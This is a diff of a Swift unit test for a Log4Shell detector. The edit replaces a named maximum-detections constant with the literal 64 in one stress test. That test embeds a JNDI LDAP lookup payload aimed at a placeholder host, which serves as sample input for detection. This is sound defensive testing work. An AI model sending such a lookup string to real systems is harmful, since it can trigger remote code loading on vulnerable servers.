@@ -166,7 +166,7 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     let text =
       String(repeating: unit, count: 200_000) + String(repeating: "}", count: 1000) + "\n${jndi:ldap://end.example/a}"
     let found = text.withView { Log4ShellDetector().scan($0, .bytes) }
-    #expect(found.contains { $0.host == "end.example" } || found.count >= Log4ShellDetector.maximumDetections)
+    #expect(found.contains { $0.host == "end.example" } || found.count >= 64)
   }
 
   @Test func deepNestingResolves() {
